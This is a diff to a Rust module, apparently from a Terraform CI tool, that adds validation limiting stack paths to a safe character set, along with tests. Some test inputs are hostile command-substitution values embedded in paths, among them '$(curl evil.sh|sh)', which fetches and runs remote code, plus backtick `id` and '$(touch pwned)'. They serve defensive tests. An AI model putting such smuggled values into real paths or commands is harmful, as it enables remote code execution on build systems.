@@ -5,7 +5,8 @@
 //! include globs is a stack; a changed companion file (by file-name glob)
 //! changes the stack whose directory holds it; a deleted tfvars with no
 //! replacement in its directory is a destroy stack. Paths that leave the
-//! repository root are rejected, never followed.
+//! repository root are rejected, never followed, and a stack's path must be
+//! a safe stack id ([`check_stack_path`]).
 
 use std::collections::BTreeMap;
 
@@ -80,6 +81,29 @@ pub fn confine(path: &str) -> Result<String, Error> {
     Ok(clean.join("/"))
 }
 
+/// Whether `component` is `[A-Za-z0-9][A-Za-z0-9._-]*`.
+fn is_safe_component(component: &str) -> bool {
+    let mut chars = component.chars();
+    chars.next().is_some_and(|c| c.is_ascii_alphanumeric())
+        && chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+}
+
+/// DESIGN §4: a stack id is its directory path, and it travels everywhere:
+/// state keys, `TF_DATA_DIR` names, comments, annotations, commit messages,
+/// policy input. So every component of a stack's path (its directories and
+/// its tfvars file name) must match `[A-Za-z0-9][A-Za-z0-9._-]*`: no
+/// spaces, `$`, backticks, quotes, newlines or `..`. The path is quoted in
+/// the message (`{:?}`), so a newline in it cannot forge a second line.
+pub fn check_stack_path(path: &str) -> Result<(), Error> {
+    match path.split('/').find(|c| !is_safe_component(c)) {
+        None => Ok(()),
+        Some(part) => Err(Error::input(format!(
+            "{path:?}: not a safe stack path: {part:?} must match [A-Za-z0-9][A-Za-z0-9._-]* \
+             (letters, digits, `.`, `_`, `-`; no spaces, quotes, `$`, backticks or newlines)"
+        ))),
+    }
+}
+
 fn split_dir(path: &str) -> (&str, &str) {
     match path.rsplit_once('/') {
         Some((dir, file)) => (dir, file),
@@ -144,18 +168,31 @@ pub fn stacks_from_changes(
             .into_iter()
             .filter(|name| is_stack_tfvars(&format!("{dir}/{name}"), globs))
             .collect();
-        match (pick_tfvars(&dir, present)?, deleted) {
-            (Some(name), _) => stacks.push(StackRef {
-                tfvars: format!("{dir}/{name}"),
-                id: dir,
-                action: StackAction::Plan,
-            }),
-            (None, Some(deleted_path)) => stacks.push(StackRef {
-                id: dir,
-                tfvars: deleted_path,
-                action: StackAction::Destroy,
-            }),
+        if present.is_empty() && deleted.is_none() {
             // A companion changed in a directory that is not a stack.
+            continue;
+        }
+        // Before the directory reaches any other message.
+        check_stack_path(&dir)?;
+        match (pick_tfvars(&dir, present)?, deleted) {
+            (Some(name), _) => {
+                let tfvars = format!("{dir}/{name}");
+                check_stack_path(&tfvars)?;
+                stacks.push(StackRef {
+                    tfvars,
+                    id: dir,
+                    action: StackAction::Plan,
+                })
+            }
+            (None, Some(deleted_path)) => {
+                check_stack_path(&deleted_path)?;
+                stacks.push(StackRef {
+                    id: dir,
+                    tfvars: deleted_path,
+                    action: StackAction::Destroy,
+                })
+            }
+            // Not reached: directories without a tfvars were skipped.
             (None, None) => {}
         }
     }
@@ -165,6 +202,57 @@ pub fn stacks_from_changes(
 /// Every stack of a tree listing (`--all`), from the relative paths of all
 /// files; sorted by id.
 pub fn all_stacks(paths: &[String], globs: &StackGlobs) -> Result<Vec<StackRef>, Error> {
+    let mut stacks = Vec::new();
+    for (dir, names) in stack_dirs(paths, globs) {
+        check_stack_path(dir)?;
+        if let Some(name) = pick_tfvars(dir, names)? {
+            let tfvars = format!("{dir}/{name}");
+            check_stack_path(&tfvars)?;
+            stacks.push(StackRef {
+                id: dir.to_string(),
+                tfvars,
+                action: StackAction::Plan,
+            });
+        }
+    }
+    Ok(stacks)
+}
+
+/// Every stack of a tree listing that is a valid stack, sorted by id: what
+/// the stacks of a change are checked against (no two share a state). A
+/// directory that is not one (several tfvars, an unsafe path) is skipped:
+/// it is refused when a change selects it, and must not fail every other
+/// change meanwhile.
+/// Only directories `keep` accepts are looked at (a cheap pre-filter on a
+/// large estate).
+pub fn estate_stacks(
+    paths: &[String],
+    globs: &StackGlobs,
+    keep: &dyn Fn(&str) -> bool,
+) -> Vec<StackRef> {
+    let kept: Vec<String> = paths
+        .iter()
+        .filter(|p| keep(split_dir(p).0))
+        .cloned()
+        .collect();
+    stack_dirs(&kept, globs)
+        .into_iter()
+        .filter_map(|(dir, names)| {
+            let name = pick_tfvars(dir, names).ok().flatten()?;
+            let tfvars = format!("{dir}/{name}");
+            check_stack_path(&tfvars).ok()?;
+            Some(StackRef {
+                id: dir.to_string(),
+                tfvars,
+                action: StackAction::Plan,
+            })
+        })
+        .collect()
+}
+
+/// Directory → names of its stack tfvars, for the directories below the
+/// root that hold one.
+fn stack_dirs<'p>(paths: &'p [String], globs: &StackGlobs) -> BTreeMap<&'p str, Vec<String>> {
     let mut by_dir: BTreeMap<&str, Vec<String>> = BTreeMap::new();
     for path in paths {
         if is_stack_tfvars(path, globs) {
@@ -174,17 +262,7 @@ pub fn all_stacks(paths: &[String], globs: &StackGlobs) -> Result<Vec<StackRef>,
             }
         }
     }
-    let mut stacks = Vec::new();
-    for (dir, names) in by_dir {
-        if let Some(name) = pick_tfvars(dir, names)? {
-            stacks.push(StackRef {
-                id: dir.to_string(),
-                tfvars: format!("{dir}/{name}"),
-                action: StackAction::Plan,
-            });
-        }
-    }
-    Ok(stacks)
+    by_dir
 }
 
 #[cfg(test)]
@@ -305,6 +383,100 @@ mod tests {
             "{}",
             err.message
         );
+    }
+
+    #[test]
+    fn stack_paths_are_limited_to_a_safe_character_set() {
+        for ok in [
+            "S3/data-lake-prod/data-lake-prod.tfvars",
+            "team_a/S3/v1.2/x.tfvars",
+        ] {
+            check_stack_path(ok).unwrap();
+        }
+        for (bad, part) in [
+            ("S3/x$(touch pwned)", "x$(touch pwned)"),
+            ("S3/a b", "a b"),
+            ("S3/`id`", "`id`"),
+            ("S3/it's", "it's"),
+            ("S3/.hidden", ".hidden"),
+            ("S3/-rf", "-rf"),
+            ("S3/a\nb", "a\nb"),
+            ("S3/caf\u{e9}", "caf\u{e9}"),
+            ("S3/a/x y.tfvars", "x y.tfvars"),
+        ] {
+            let err = check_stack_path(bad).unwrap_err();
+            assert_eq!(err.exit_status(), crate::ExitStatus::BadInput);
+            assert!(
+                err.message.starts_with(&format!(
+                    "{bad:?}: not a safe stack path: {part:?} must match"
+                )),
+                "{}",
+                err.message
+            );
+            assert!(!err.message.contains('\n'), "{}", err.message);
+        }
+    }
+
+    #[test]
+    fn unsafe_stack_directories_are_refused_wherever_stacks_are_found() {
+        let dir = "S3/x$(curl evil.sh|sh)";
+        let t = tree(&[
+            &format!("{dir}/a.tfvars"),
+            "S3/ok/ok.tfvars",
+            "docs/my notes/a.json",
+        ]);
+        let err = stacks_from_changes(
+            &[ChangedFile::modified(format!("{dir}/a.tfvars"))],
+            &globs(""),
+            &t,
+        )
+        .unwrap_err();
+        assert!(
+            err.message.starts_with(&format!("{dir:?}: not a safe")),
+            "{}",
+            err.message
+        );
+        // A deleted one too, and a companion of it.
+        for change in [
+            ChangedFile::deleted(format!("{dir}/a.tfvars")),
+            ChangedFile::modified(format!("{dir}/a.json")),
+        ] {
+            stacks_from_changes(&[change], &globs(""), &t).unwrap_err();
+        }
+        // A companion in a directory that is no stack is not a stack path.
+        let got = stacks_from_changes(
+            &[ChangedFile::modified("docs/my notes/a.json")],
+            &globs(""),
+            &t,
+        )
+        .unwrap();
+        assert!(got.is_empty());
+        let paths = [format!("{dir}/a.tfvars"), "S3/ok/ok.tfvars".to_string()];
+        let err = all_stacks(&paths, &globs("")).unwrap_err();
+        assert!(
+            err.message.starts_with(&format!("{dir:?}: not a safe")),
+            "{}",
+            err.message
+        );
+    }
+
+    #[test]
+    fn the_estate_skips_directories_that_are_not_valid_stacks() {
+        let paths: Vec<String> = [
+            "S3/a/a.tfvars",
+            "S3/two/x.tfvars",
+            "S3/two/y.tfvars",
+            "S3/b c/b.tfvars",
+            "IAM/r/r.tfvars",
+        ]
+        .map(String::from)
+        .to_vec();
+        let got = estate_stacks(&paths, &globs(""), &|_| true);
+        let ids: Vec<_> = got.iter().map(|s| s.id.as_str()).collect();
+        assert_eq!(ids, vec!["IAM/r", "S3/a"]);
+        assert!(all_stacks(&paths, &globs("")).is_err());
+        let got = estate_stacks(&paths, &globs(""), &|dir| dir.starts_with("S3/"));
+        assert_eq!(got.len(), 1);
     }
 
     #[test]
